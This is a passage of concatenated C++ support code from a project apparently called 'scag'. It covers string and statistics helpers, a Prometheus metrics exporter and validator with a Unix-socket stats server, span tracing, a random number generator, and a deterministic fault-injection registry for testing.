/// per-thread sections of event JSONL lines, oldest first.
std::string dump_text();
/// Atomic-enough dump to a file (truncate + write + flush). Returns false
/// on I/O failure — a crash path must never throw over the real error.
bool dump_to_file(const std::string& path);
/// Forgets all recorded tails (test isolation).
void clear();
/// Installs SIGSEGV/SIGBUS/SIGILL/SIGABRT/SIGFPE handlers that write the
/// flight dump to the journal's configured flight path before re-raising.
/// Idempotent. Best-effort by design: the dump formatter is not strictly
/// async-signal-safe, but a lost dump on a crashed process beats no dump.
void install_signal_dump();

}  // namespace flight

#endif  // SCAG_METRICS_OFF

}  // namespace scag::support::events
