// String utilities used by the assembler, normalizer, and report printers.
#pragma once

#include <string>
#include <string_view>
#include <vector>

namespace scag {

/// Splits on a single character; empty fields are kept.
std::vector<std::string> split(std::string_view s, char sep);

/// Splits on runs of whitespace; no empty fields.
std::vector<std::string> split_ws(std::string_view s);

/// Strips leading/trailing whitespace.
std::string trim(std::string_view s);

/// Joins with a separator.
std::string join(const std::vector<std::string>& parts, std::string_view sep);

/// ASCII lower-casing.
std::string to_lower(std::string_view s);

/// True if s starts with prefix.
bool starts_with(std::string_view s, std::string_view prefix);

/// printf-style helper returning std::string.
std::string strfmt(const char* fmt, ...) __attribute__((format(printf, 1, 2)));

/// Formats a double as a percentage with two decimals, e.g. "96.64%".
std::string pct(double fraction);

/// Quotes and escapes a string as a JSON string literal, e.g. `a"b` ->
/// `"a\"b"`. Control characters are emitted as \u00XX.
std::string json_quote(std::string_view s);

}  // namespace scag
