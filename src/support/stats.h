// Small descriptive-statistics helpers shared by the evaluation harness,
// feature extraction for the ML baselines, and the benchmarks.
#pragma once

#include <cstddef>
#include <vector>

namespace scag {

/// Summary of a sample of doubles.
struct Summary {
  std::size_t n = 0;
  double mean = 0.0;
  double stddev = 0.0;  // population standard deviation
  double min = 0.0;
  double max = 0.0;
  double sum = 0.0;
};

/// Computes mean of a sample; 0 for an empty sample.
double mean_of(const std::vector<double>& xs);

/// Computes population standard deviation; 0 for samples of size < 2.
double stddev_of(const std::vector<double>& xs);

/// Computes the full summary in one pass.
Summary summarize(const std::vector<double>& xs);

/// Linear-interpolated percentile, q in [0,1]. Sorts a copy.
double percentile(std::vector<double> xs, double q);

/// Pearson correlation of two equally sized samples; 0 if degenerate.
double pearson(const std::vector<double>& a, const std::vector<double>& b);

/// Precision/recall/F1 bundle used throughout the evaluation.
struct Prf {
  double precision = 0.0;
  double recall = 0.0;
  double f1 = 0.0;
};

/// F1 from precision and recall; 0 when both are 0.
double f1_score(double precision, double recall);

}  // namespace scag
