#include "support/prometheus.h"

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <limits>
#include <stdexcept>

#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include "support/strings.h"

namespace scag::support::prom {

// ---------------------------------------------------------------------------
// Rendering.

std::string prometheus_name(std::string_view instrument_name) {
  std::string out = "scag_";
  out.reserve(out.size() + instrument_name.size());
  for (char c : instrument_name) {
    const bool ok = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') ||
                    (c >= '0' && c <= '9') || c == '_';
    out += ok ? c : '_';
  }
  return out;
}

std::string to_prometheus_text(const MetricsSnapshot& snapshot) {
  std::string out;
  out.reserve(4096);

  for (const CounterSample& c : snapshot.counters) {
    const std::string name = prometheus_name(c.name) + "_total";
    out += "# HELP " + name + " Counter \"" + c.name +
           "\" from the scag metrics registry.\n";
    out += "# TYPE " + name + " counter\n";
    out += name + strfmt(" %llu\n", static_cast<unsigned long long>(c.value));
  }

  for (const HistogramSample& h : snapshot.histograms) {
    const std::string name = prometheus_name(h.name);
    out += "# HELP " + name + " Histogram \"" + h.name +
           "\" from the scag metrics registry (pow2 buckets, ns).\n";
    out += "# TYPE " + name + " histogram\n";
    // The snapshot keeps non-empty buckets only with inclusive upper
    // bounds; the exposition needs cumulative counts per `le`.
    std::uint64_t cumulative = 0;
    for (const HistogramSample::Bucket& b : h.buckets) {
      cumulative += b.count;
      out += name +
             strfmt("_bucket{le=\"%llu\"} %llu\n",
                    static_cast<unsigned long long>(b.upper_ns),
                    static_cast<unsigned long long>(cumulative));
    }
    out += name + strfmt("_bucket{le=\"+Inf\"} %llu\n",
                         static_cast<unsigned long long>(h.count));
    out += name + strfmt("_sum %llu\n",
                         static_cast<unsigned long long>(h.sum_ns));
    out += name + strfmt("_count %llu\n",
                         static_cast<unsigned long long>(h.count));
  }
  return out;
}

// ---------------------------------------------------------------------------
// Parsing / validation.

namespace {

bool is_name_start(char c) {
  return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || c == '_' ||
         c == ':';
}
bool is_name_char(char c) {
  return is_name_start(c) || (c >= '0' && c <= '9');
}

void set_error(std::string* error, std::string message) {
  if (error != nullptr) *error = std::move(message);
}

// Parses `key="value"` label pairs between braces; `i` sits just past
// `{` on entry and just past `}` on success.
bool parse_labels(std::string_view line, std::size_t& i,
                  std::map<std::string, std::string>& labels) {
  for (;;) {
    while (i < line.size() && line[i] == ' ') ++i;
    if (i < line.size() && line[i] == '}') {
      ++i;
      return true;
    }
    std::string key;
    if (i >= line.size() || !is_name_start(line[i])) return false;
    while (i < line.size() && is_name_char(line[i])) key += line[i++];
    if (i >= line.size() || line[i] != '=') return false;
    ++i;
    if (i >= line.size() || line[i] != '"') return false;
    ++i;
    std::string value;
    while (i < line.size() && line[i] != '"') {
      char c = line[i++];
      if (c == '\\') {
        if (i >= line.size()) return false;
        char esc = line[i++];
        if (esc == 'n') value += '\n';
        else if (esc == '\\') value += '\\';
        else if (esc == '"') value += '"';
        else return false;
      } else {
        value += c;
      }
    }
    if (i >= line.size()) return false;  // unterminated value
    ++i;                                 // closing quote
    labels.emplace(std::move(key), std::move(value));
    while (i < line.size() && line[i] == ' ') ++i;
    if (i < line.size() && line[i] == ',') {
      ++i;
      continue;
    }
    if (i < line.size() && line[i] == '}') {
      ++i;
      return true;
    }
    return false;
  }
}

bool parse_prom_value(std::string_view token, double& out) {
  if (token == "+Inf" || token == "Inf") {
    out = std::numeric_limits<double>::infinity();
    return true;
  }
  if (token == "-Inf") {
    out = -std::numeric_limits<double>::infinity();
    return true;
  }
  if (token == "NaN") {
    out = std::numeric_limits<double>::quiet_NaN();
    return true;
  }
  if (token.empty()) return false;
  char* end = nullptr;
  const std::string buf(token);
  errno = 0;
  out = std::strtod(buf.c_str(), &end);
  return errno == 0 && end == buf.c_str() + buf.size();
}

}  // namespace

std::optional<PromText> parse_prometheus_text(std::string_view text,
                                              std::string* error) {
  PromText result;
  std::size_t lineno = 0;
  for (const std::string& raw : split(std::string(text), '\n')) {
    ++lineno;
    const std::string line = trim(raw);
    if (line.empty()) continue;
    if (line[0] == '#') {
      const std::vector<std::string> parts = split_ws(line);
      // `# TYPE <name> <type>` is the only comment we interpret.
      if (parts.size() >= 4 && parts[1] == "TYPE")
        result.types[parts[2]] = parts[3];
      continue;
    }

    PromSample sample;
    std::size_t i = 0;
    if (!is_name_start(line[i])) {
      set_error(error, strfmt("line %zu: invalid metric name", lineno));
      return std::nullopt;
    }
    while (i < line.size() && is_name_char(line[i])) sample.name += line[i++];
    if (i < line.size() && line[i] == '{') {
      ++i;
      if (!parse_labels(line, i, sample.labels)) {
        set_error(error, strfmt("line %zu: malformed labels", lineno));
        return std::nullopt;
      }
    }
    while (i < line.size() && (line[i] == ' ' || line[i] == '\t')) ++i;
    std::size_t value_end = i;
    while (value_end < line.size() && line[value_end] != ' ' &&
           line[value_end] != '\t')
      ++value_end;
    if (!parse_prom_value(std::string_view(line).substr(i, value_end - i),
                          sample.value)) {
      set_error(error, strfmt("line %zu: unparseable value", lineno));
      return std::nullopt;
    }
    // Anything after the value would be a timestamp; we neither emit nor
    // accept one (the scrape time is the snapshot time by construction).
    if (trim(line.substr(value_end)).size() != 0) {
      set_error(error, strfmt("line %zu: trailing content", lineno));
      return std::nullopt;
    }
    result.samples.push_back(std::move(sample));
  }
  return result;
}

bool validate_prometheus_text(std::string_view text, std::string* error) {
  const std::optional<PromText> parsed = parse_prometheus_text(text, error);
  if (!parsed) return false;

  // Histogram bookkeeping: family -> (last cumulative, saw +Inf, count).
  struct HistState {
    double last_cumulative = -1.0;
    bool saw_inf = false;
    double inf_value = 0.0;
    bool has_count = false;
    double count_value = 0.0;
  };
  std::map<std::string, HistState> hist;

  auto family_of = [&](const std::string& name,
                       std::string_view suffix) -> std::optional<std::string> {
    if (name.size() <= suffix.size()) return std::nullopt;
    if (std::string_view(name).substr(name.size() - suffix.size()) != suffix)
      return std::nullopt;
    std::string base = name.substr(0, name.size() - suffix.size());
    const auto it = parsed->types.find(base);
    if (it == parsed->types.end() || it->second != "histogram")
      return std::nullopt;
    return base;
  };

  for (const PromSample& s : parsed->samples) {
    if (const auto base = family_of(s.name, "_bucket")) {
      HistState& st = hist[*base];
      const auto le = s.labels.find("le");
      if (le == s.labels.end()) {
        set_error(error, "_bucket sample without le label: " + s.name);
        return false;
      }
      if (s.value + 1e-9 < st.last_cumulative) {
        set_error(error, "non-cumulative histogram buckets: " + *base);
        return false;
      }
      st.last_cumulative = s.value;
      if (le->second == "+Inf") {
        st.saw_inf = true;
        st.inf_value = s.value;
      }
      continue;
    }
    if (const auto base = family_of(s.name, "_count")) {
      HistState& st = hist[*base];
      st.has_count = true;
      st.count_value = s.value;
      continue;
    }
    if (family_of(s.name, "_sum")) continue;
    // Plain sample: its own name must carry a TYPE declaration.
    if (parsed->types.find(s.name) == parsed->types.end()) {
      set_error(error, "sample without # TYPE declaration: " + s.name);
      return false;
    }
  }

  for (const auto& [base, st] : hist) {
    if (!st.saw_inf) {
      set_error(error, "histogram not closed by le=\"+Inf\": " + base);
      return false;
    }
    if (!st.has_count || st.count_value != st.inf_value) {
      set_error(error, "_count does not match +Inf bucket: " + base);
      return false;
    }
  }
  return true;
}

// ---------------------------------------------------------------------------
// Unix-socket stats listener + client.

namespace {

sockaddr_un make_unix_addr(const std::string& path) {
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  if (path.size() >= sizeof(addr.sun_path))
    throw std::runtime_error("socket path too long: " + path);
  std::memcpy(addr.sun_path, path.c_str(), path.size() + 1);
  return addr;
}

void write_all(int fd, std::string_view data) {
  std::size_t off = 0;
  while (off < data.size()) {
    const ssize_t n = ::write(fd, data.data() + off, data.size() - off);
    if (n < 0) {
      if (errno == EINTR) continue;
      return;  // peer went away; nothing useful to do on a stats socket
    }
    off += static_cast<std::size_t>(n);
  }
}

}  // namespace

StatsServer::StatsServer(const std::string& socket_path)
    : path_(socket_path) {
  const sockaddr_un addr = make_unix_addr(path_);
  listen_fd_ = ::socket(AF_UNIX, SOCK_STREAM, 0);
  if (listen_fd_ < 0)
    throw std::runtime_error("stats socket: socket() failed");
  ::unlink(path_.c_str());  // replace a stale socket file from a past run
  if (::bind(listen_fd_, reinterpret_cast<const sockaddr*>(&addr),
             sizeof(addr)) != 0) {
    ::close(listen_fd_);
    listen_fd_ = -1;
    throw std::runtime_error("stats socket: cannot bind " + path_);
  }
  if (::listen(listen_fd_, 4) != 0) {
    ::close(listen_fd_);
    listen_fd_ = -1;
    throw std::runtime_error("stats socket: listen() failed on " + path_);
  }
}

StatsServer::~StatsServer() {
  if (listen_fd_ >= 0) ::close(listen_fd_);
  ::unlink(path_.c_str());
}

std::size_t StatsServer::serve(std::size_t max_requests,
                               const std::function<std::string()>& render) {
  std::size_t served = 0;
  while (max_requests == 0 || served < max_requests) {
    const int fd = ::accept(listen_fd_, nullptr, nullptr);
    if (fd < 0) {
      if (errno == EINTR) continue;
      break;  // listener closed
    }
    // Drain the request line + headers (best effort — any GET is the
    // stats GET; there is exactly one resource).
    char buf[1024];
    for (;;) {
      const ssize_t n = ::read(fd, buf, sizeof(buf));
      if (n <= 0) break;
      const std::string_view chunk(buf, static_cast<std::size_t>(n));
      if (chunk.find("\r\n\r\n") != std::string_view::npos ||
          chunk.find("\n\n") != std::string_view::npos)
        break;
      if (static_cast<std::size_t>(n) < sizeof(buf)) break;
    }
    const std::string body = render();
    std::string response = "HTTP/1.0 200 OK\r\n";
    response += "Content-Type: ";
    response += kContentType;
    response += strfmt("\r\nContent-Length: %zu\r\n\r\n", body.size());
    response += body;
    write_all(fd, response);
    ::close(fd);
    ++served;
  }
  return served;
}

std::string fetch_stats(const std::string& socket_path) {
  const sockaddr_un addr = make_unix_addr(socket_path);
  const int fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
  if (fd < 0) throw std::runtime_error("stats client: socket() failed");
  if (::connect(fd, reinterpret_cast<const sockaddr*>(&addr), sizeof(addr)) !=
      0) {
    ::close(fd);
    throw std::runtime_error("stats client: cannot connect " + socket_path);
  }
  write_all(fd, "GET /stats HTTP/1.0\r\nHost: scag\r\n\r\n");

  std::string response;
  char buf[4096];
  for (;;) {
    const ssize_t n = ::read(fd, buf, sizeof(buf));
    if (n < 0 && errno == EINTR) continue;
    if (n <= 0) break;
    response.append(buf, static_cast<std::size_t>(n));
  }
  ::close(fd);

  const std::size_t header_end = response.find("\r\n\r\n");
  if (header_end == std::string::npos)
    throw std::runtime_error("stats client: malformed response");
  if (response.find("200") == std::string::npos ||
      response.find("200") > header_end)
    throw std::runtime_error("stats client: non-200 response");
  return response.substr(header_end + 4);
}

}  // namespace scag::support::prom
