// Span tracing for the scan pipeline: RAII scopes record per-stage wall
// times (assemble -> CFG -> interpret (incl. cache sim) -> CST-BBS build ->
// DTW scan), nested per thread, into a process-wide tracer.
//
// Tracing is OFF by default (unlike metrics counters) because spans
// allocate: enable it around the region of interest with
// `Tracer::global().set_enabled(true)`. A disabled TraceScope costs one
// relaxed atomic load. Compiling with -DSCAG_METRICS_OFF turns the whole
// layer into inline no-ops.
//
//   {
//     support::TraceScope span("cfg.build");
//     ...;
//   }  // span recorded on scope exit
//
// Exports: to_json() (raw spans + per-stage aggregates), to_chrome_json()
// (Chrome trace-event format, loadable in Perfetto / chrome://tracing),
// and to_table() (human-readable per-stage summary). Span storage is
// capped; spans past the cap are counted in dropped() instead of growing
// without bound, and both renderers surface the dropped count.
#pragma once

#include <cstdint>
#include <mutex>
#include <string>
#include <string_view>
#include <vector>

#include "support/metrics.h"

namespace scag::support {

/// One completed span. Times are nanoseconds relative to the tracer's
/// epoch (its construction or last clear()).
struct TraceSpan {
  std::string name;
  std::uint64_t start_ns = 0;
  std::uint64_t dur_ns = 0;
  std::uint32_t depth = 0;   // nesting level on the recording thread
  std::uint32_t thread = 0;  // dense per-process thread index
};

#ifdef SCAG_METRICS_OFF

class Tracer {
 public:
  static constexpr std::size_t kMaxSpans = 1 << 16;  // mirrors real mode

  static Tracer& global() {
    static Tracer t;
    return t;
  }
  bool enabled() const { return false; }
  void set_enabled(bool) {}
  std::vector<TraceSpan> spans() const { return {}; }
  std::uint64_t dropped() const { return 0; }
  void clear() {}
  std::string to_json() const;
  std::string to_chrome_json() const;
  std::string to_table() const;
};

class TraceScope {
 public:
  explicit TraceScope(std::string_view) {}
  TraceScope(const TraceScope&) = delete;
  TraceScope& operator=(const TraceScope&) = delete;
};

#else

class Tracer {
 public:
  /// Spans kept in memory; more are dropped (and counted).
  static constexpr std::size_t kMaxSpans = 1 << 16;

  static Tracer& global();

  bool enabled() const { return enabled_.load(std::memory_order_relaxed); }
  void set_enabled(bool on) {
    enabled_.store(on, std::memory_order_relaxed);
  }

  /// Called by TraceScope; start_ns is an absolute monotonic_ns() reading.
  void record(std::string_view name, std::uint64_t start_ns,
              std::uint64_t dur_ns, std::uint32_t depth);

  std::vector<TraceSpan> spans() const;
  std::uint64_t dropped() const;
  /// Drops all spans and restarts the epoch.
  void clear();

  /// {"spans": [...], "dropped": n, "stages": {name: aggregate}}.
  std::string to_json() const;
  /// Chrome trace-event format (the JSON Array Format wrapped in an
  /// object): loads directly in Perfetto / chrome://tracing. Spans map to
  /// complete ("ph":"X") events with ts/dur in microseconds and the
  /// recording thread as tid; dropped spans are surfaced in "otherData".
  /// See docs/observability.md "Chrome trace export".
  std::string to_chrome_json() const;
  /// Per-stage aggregate table (count, total, mean, min, max).
  std::string to_table() const;

 private:
  Tracer() : epoch_ns_(monotonic_ns()) {}

  std::atomic<bool> enabled_{false};
  mutable std::mutex mu_;
  std::uint64_t epoch_ns_;
  std::vector<TraceSpan> spans_;
  std::uint64_t dropped_ = 0;
};

class TraceScope {
 public:
  explicit TraceScope(std::string_view name);
  ~TraceScope();
  TraceScope(const TraceScope&) = delete;
  TraceScope& operator=(const TraceScope&) = delete;

 private:
  std::string name_;
  std::uint64_t start_ns_ = 0;
  std::uint32_t depth_ = 0;
  bool active_ = false;
};

#endif  // SCAG_METRICS_OFF

}  // namespace scag::support
