#include "support/rng.h"

#include <cmath>

namespace scag {
namespace {

std::uint64_t splitmix64(std::uint64_t& x) {
  x += 0x9e3779b97f4a7c15ULL;
  std::uint64_t z = x;
  z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
  z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
  return z ^ (z >> 31);
}

std::uint64_t rotl(std::uint64_t x, int k) {
  return (x << k) | (x >> (64 - k));
}

}  // namespace

void Rng::reseed(std::uint64_t seed) {
  std::uint64_t sm = seed;
  for (auto& word : s_) word = splitmix64(sm);
  // Guard against the all-zero state, which is a fixed point of xoshiro.
  if ((s_[0] | s_[1] | s_[2] | s_[3]) == 0) s_[0] = 1;
}

std::uint64_t Rng::next() {
  const std::uint64_t result = rotl(s_[1] * 5, 7) * 9;
  const std::uint64_t t = s_[1] << 17;
  s_[2] ^= s_[0];
  s_[3] ^= s_[1];
  s_[1] ^= s_[2];
  s_[0] ^= s_[3];
  s_[2] ^= t;
  s_[3] = rotl(s_[3], 45);
  return result;
}

std::uint64_t Rng::uniform(std::uint64_t lo, std::uint64_t hi) {
  if (lo > hi) throw std::invalid_argument("Rng::uniform: lo > hi");
  const std::uint64_t span = hi - lo;
  if (span == std::numeric_limits<std::uint64_t>::max()) return next();
  return lo + below(span + 1);
}

std::uint64_t Rng::below(std::uint64_t n) {
  if (n == 0) throw std::invalid_argument("Rng::below: n == 0");
  // Rejection sampling to avoid modulo bias.
  const std::uint64_t threshold = (0 - n) % n;
  for (;;) {
    const std::uint64_t r = next();
    if (r >= threshold) return r % n;
  }
}

double Rng::uniform01() {
  // 53 high bits -> double in [0,1).
  return static_cast<double>(next() >> 11) * 0x1.0p-53;
}

double Rng::uniform_real(double lo, double hi) {
  return lo + (hi - lo) * uniform01();
}

bool Rng::chance(double p) {
  if (p <= 0.0) return false;
  if (p >= 1.0) return true;
  return uniform01() < p;
}

double Rng::gaussian(double mean, double stddev) {
  // Irwin-Hall approximation: sum of 12 uniforms has variance 1, mean 6.
  double acc = 0.0;
  for (int i = 0; i < 12; ++i) acc += uniform01();
  return mean + stddev * (acc - 6.0);
}

Rng Rng::split() {
  Rng child(0);
  std::uint64_t sm = next();
  for (auto& word : child.s_) word = splitmix64(sm);
  if ((child.s_[0] | child.s_[1] | child.s_[2] | child.s_[3]) == 0)
    child.s_[0] = 1;
  return child;
}

}  // namespace scag
