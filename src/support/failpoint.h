// Deterministic fault injection for the scan pipeline: a process-wide
// registry of named failpoints compiled into every stage that touches
// external input or shared state (serialization, the thread pool, the
// detector scan paths, the cache/CPU simulation loops).
//
// A failpoint is a named site in the code:
//
//   if (support::fp::hit("serialize.load.read")) throw IoError(...);
//
// Unarmed, hit() costs one relaxed atomic increment and one relaxed load.
// Armed (via code, the SCAG_FAILPOINTS environment variable, or
// `scagctl --failpoints=...`), it can
//   - return true, telling the call site to inject its natural error
//     ("error" mode — the site decides what failing *means*: an IoError,
//     a degraded serial fallback, a skipped worker),
//   - throw FailpointError directly ("throw" mode),
//   - sleep for a configured number of milliseconds ("delay" mode, used to
//     exercise the cooperative scan deadline),
// and each action can be gated to fire only on every Nth evaluation, with
// a deterministic seeded probability, or at most a bounded number of times
// — all deterministic, so failure-path tests replay exactly.
//
// Spec string grammar (entries joined with ';'):
//
//   name=kind[:millis][@every][%prob:seed][#max_fires]
//
//   serialize.load.read=throw          throw on every evaluation
//   batch.scan_target=delay:50         sleep 50ms on every evaluation
//   cpu.step=error@1000                inject an error every 1000th step
//   cache.access=throw%0.01:42         ~1% of evaluations, seed 42
//   serialize.load.open=error#1        fail once, then pass (retry tests)
//
// The registry is a closed set: every failpoint name is declared in
// failpoint.cpp (kSites). hit() on an undeclared name aborts with
// std::logic_error, so a site cannot silently escape the failure-path
// harness (tests/test_failpoints.cpp arms every declared site in turn and
// asserts each one actually fired). Fired counts are also exported as
// support/metrics counters "fp.fired.<name>".
//
// Compiling with -DSCAG_FAILPOINTS_OFF (CMake option SCAG_FAILPOINTS_OFF)
// replaces everything with inline no-ops; call sites compile unchanged and
// behavior is bit-identical to never arming anything.
#pragma once

#include <atomic>
#include <cstdint>
#include <stdexcept>
#include <string>
#include <string_view>
#include <vector>

#include "support/metrics.h"

namespace scag::support::fp {

/// Thrown by "throw"-mode failpoints (and by call sites that translate
/// "error" mode into an exception). The failpoint name is embedded so
/// per-item scan errors can report their cause.
class FailpointError : public std::runtime_error {
 public:
  explicit FailpointError(std::string_view name)
      : std::runtime_error("failpoint '" + std::string(name) + "' fired"),
        name_(name) {}
  const std::string& name() const { return name_; }

 private:
  std::string name_;
};

enum class Kind : std::uint8_t {
  kError,  // hit() returns true; the call site injects its natural failure
  kThrow,  // hit() throws FailpointError
  kDelay,  // hit() sleeps delay_ms, then returns false
};

/// What an armed failpoint does and when it triggers. All trigger gates
/// compose (every-Nth AND seeded-probability AND max-fires budget).
struct Spec {
  Kind kind = Kind::kError;
  std::uint32_t delay_ms = 0;   // kDelay: how long to sleep
  std::uint32_t every = 1;      // fire on every Nth evaluation (1 = all)
  double probability = 1.0;     // seeded-deterministic firing probability
  std::uint64_t seed = 0;       // stream seed for `probability`
  std::uint64_t max_fires = 0;  // stop firing after this many (0 = no cap)
};

/// Counters of one registered failpoint, for harness assertions.
struct SiteSnapshot {
  std::string name;
  std::uint64_t evaluations = 0;  // times control passed the site
  std::uint64_t fired = 0;        // times an armed action triggered
  bool armed = false;
};

#ifdef SCAG_FAILPOINTS_OFF

// ---------------------------------------------------------------------------
// No-op mode: behavior is bit-identical to an unarmed build; arming is
// accepted and ignored so tools keep working.

inline constexpr bool compiled_in() { return false; }

class Site {
 public:
  bool hit() { return false; }
};

inline bool hit(std::string_view) { return false; }
inline Site& site(std::string_view) {
  static Site s;
  return s;
}
inline void arm(std::string_view, const Spec&) {}
inline void disarm(std::string_view) {}
inline void disarm_all() {}
inline std::size_t arm_from_string(std::string_view) { return 0; }
inline void arm_from_env() {}
inline void reset_counters() {}
inline std::vector<std::string> registered() { return {}; }
inline std::vector<SiteSnapshot> snapshot() { return {}; }

#else  // SCAG_FAILPOINTS_OFF not defined: the real implementation.

inline constexpr bool compiled_in() { return true; }

/// One registered failpoint. Sites live for the process lifetime; hot call
/// sites cache the reference once:
///   static support::fp::Site& s = support::fp::site("cpu.step");
///   if (s.hit()) ...
/// hit() is wait-free while unarmed: one relaxed add + one load. Arming
/// publishes the spec fields (each an atomic) before the release store of
/// armed_, so concurrent hits see a consistent-enough spec without locks.
class Site {
 public:
  explicit Site(std::string name);
  Site(const Site&) = delete;
  Site& operator=(const Site&) = delete;

  const std::string& name() const { return name_; }

  bool hit() {
    evaluations_.fetch_add(1, std::memory_order_relaxed);
    if (!armed_.load(std::memory_order_acquire)) return false;
    return fire();
  }

 private:
  friend void arm(std::string_view, const Spec&);
  friend void disarm(std::string_view);
  friend void disarm_all();
  friend void reset_counters();
  friend std::vector<SiteSnapshot> snapshot();

  /// Slow path: trigger gates + the armed action. Throws in kThrow mode.
  bool fire();

  const std::string name_;
  std::atomic<std::uint64_t> evaluations_{0};
  std::atomic<std::uint64_t> fired_{0};
  std::atomic<bool> armed_{false};
  // The armed spec, field-by-field atomic (see class comment).
  std::atomic<std::uint8_t> kind_{0};
  std::atomic<std::uint32_t> delay_ms_{0};
  std::atomic<std::uint32_t> every_{1};
  std::atomic<double> probability_{1.0};
  std::atomic<std::uint64_t> seed_{0};
  std::atomic<std::uint64_t> max_fires_{0};
  // Trigger-gate state, reset on each arm().
  std::atomic<std::uint64_t> armed_evals_{0};
  std::atomic<std::uint64_t> armed_fires_{0};
  /// Mirror of fired_ in the metrics registry ("fp.fired.<name>").
  Counter* fired_counter_;
};

/// Evaluates the failpoint `name`. Returns true when the call site should
/// inject its natural error; throws FailpointError in "throw" mode; sleeps
/// in "delay" mode. Throws std::logic_error for names not declared in the
/// registry (failpoint.cpp kSites).
bool hit(std::string_view name);

/// Resolves a declared failpoint for cached use on hot paths. Throws
/// std::logic_error for undeclared names.
Site& site(std::string_view name);

/// Arms / disarms programmatically. Arming replaces any previous spec and
/// resets the armed-evaluation and fire-budget gates (not the lifetime
/// counters). Unknown names throw std::logic_error.
void arm(std::string_view name, const Spec& spec);
void disarm(std::string_view name);
void disarm_all();

/// Parses and arms a ';'-joined spec string (grammar above). Returns the
/// number of entries armed; throws std::invalid_argument on syntax errors
/// and std::logic_error on unknown failpoint names.
std::size_t arm_from_string(std::string_view specs);

/// Arms from $SCAG_FAILPOINTS if set. Called once automatically before the
/// first hit, so exporting the variable affects any binary without code
/// changes; calling it explicitly earlier is allowed and idempotent unless
/// the variable changed.
void arm_from_env();

/// Zeroes every site's evaluation/fired counters (armed state unchanged).
void reset_counters();

/// All declared failpoint names, in declaration order.
std::vector<std::string> registered();

/// Counter snapshot of every declared site.
std::vector<SiteSnapshot> snapshot();

#endif  // SCAG_FAILPOINTS_OFF

}  // namespace scag::support::fp
