#include "support/stats.h"

#include <algorithm>
#include <cmath>
#include <numeric>
#include <stdexcept>

namespace scag {

double mean_of(const std::vector<double>& xs) {
  if (xs.empty()) return 0.0;
  return std::accumulate(xs.begin(), xs.end(), 0.0) /
         static_cast<double>(xs.size());
}

double stddev_of(const std::vector<double>& xs) {
  if (xs.size() < 2) return 0.0;
  const double m = mean_of(xs);
  double acc = 0.0;
  for (double x : xs) acc += (x - m) * (x - m);
  return std::sqrt(acc / static_cast<double>(xs.size()));
}

Summary summarize(const std::vector<double>& xs) {
  Summary s;
  s.n = xs.size();
  if (xs.empty()) return s;
  s.mean = mean_of(xs);
  s.stddev = stddev_of(xs);
  auto [mn, mx] = std::minmax_element(xs.begin(), xs.end());
  s.min = *mn;
  s.max = *mx;
  s.sum = std::accumulate(xs.begin(), xs.end(), 0.0);
  return s;
}

double percentile(std::vector<double> xs, double q) {
  if (xs.empty()) throw std::invalid_argument("percentile: empty sample");
  if (q < 0.0 || q > 1.0)
    throw std::invalid_argument("percentile: q out of [0,1]");
  std::sort(xs.begin(), xs.end());
  const double pos = q * static_cast<double>(xs.size() - 1);
  const std::size_t lo = static_cast<std::size_t>(pos);
  const std::size_t hi = std::min(lo + 1, xs.size() - 1);
  const double frac = pos - static_cast<double>(lo);
  return xs[lo] * (1.0 - frac) + xs[hi] * frac;
}

double pearson(const std::vector<double>& a, const std::vector<double>& b) {
  if (a.size() != b.size() || a.size() < 2) return 0.0;
  const double ma = mean_of(a), mb = mean_of(b);
  double num = 0.0, da = 0.0, db = 0.0;
  for (std::size_t i = 0; i < a.size(); ++i) {
    num += (a[i] - ma) * (b[i] - mb);
    da += (a[i] - ma) * (a[i] - ma);
    db += (b[i] - mb) * (b[i] - mb);
  }
  if (da == 0.0 || db == 0.0) return 0.0;
  return num / std::sqrt(da * db);
}

double f1_score(double precision, double recall) {
  if (precision + recall == 0.0) return 0.0;
  return 2.0 * precision * recall / (precision + recall);
}

}  // namespace scag
