#include "support/strings.h"

#include <cctype>
#include <cstdarg>
#include <cstdio>

namespace scag {

std::vector<std::string> split(std::string_view s, char sep) {
  std::vector<std::string> out;
  std::size_t start = 0;
  for (std::size_t i = 0; i <= s.size(); ++i) {
    if (i == s.size() || s[i] == sep) {
      out.emplace_back(s.substr(start, i - start));
      start = i + 1;
    }
  }
  return out;
}

std::vector<std::string> split_ws(std::string_view s) {
  std::vector<std::string> out;
  std::size_t i = 0;
  while (i < s.size()) {
    while (i < s.size() && std::isspace(static_cast<unsigned char>(s[i]))) ++i;
    std::size_t start = i;
    while (i < s.size() && !std::isspace(static_cast<unsigned char>(s[i])))
      ++i;
    if (i > start) out.emplace_back(s.substr(start, i - start));
  }
  return out;
}

std::string trim(std::string_view s) {
  std::size_t b = 0, e = s.size();
  while (b < e && std::isspace(static_cast<unsigned char>(s[b]))) ++b;
  while (e > b && std::isspace(static_cast<unsigned char>(s[e - 1]))) --e;
  return std::string(s.substr(b, e - b));
}

std::string join(const std::vector<std::string>& parts, std::string_view sep) {
  std::string out;
  for (std::size_t i = 0; i < parts.size(); ++i) {
    if (i) out += sep;
    out += parts[i];
  }
  return out;
}

std::string to_lower(std::string_view s) {
  std::string out(s);
  for (char& c : out) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
  return out;
}

bool starts_with(std::string_view s, std::string_view prefix) {
  return s.size() >= prefix.size() && s.substr(0, prefix.size()) == prefix;
}

std::string strfmt(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  va_list ap2;
  va_copy(ap2, ap);
  const int n = std::vsnprintf(nullptr, 0, fmt, ap);
  va_end(ap);
  if (n < 0) {
    va_end(ap2);
    return {};
  }
  std::string out(static_cast<std::size_t>(n), '\0');
  std::vsnprintf(out.data(), out.size() + 1, fmt, ap2);
  va_end(ap2);
  return out;
}

std::string pct(double fraction) {
  return strfmt("%.2f%%", fraction * 100.0);
}

std::string json_quote(std::string_view s) {
  std::string out;
  out.reserve(s.size() + 2);
  out += '"';
  for (char c : s) {
    switch (c) {
      case '"': out += "\\\""; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
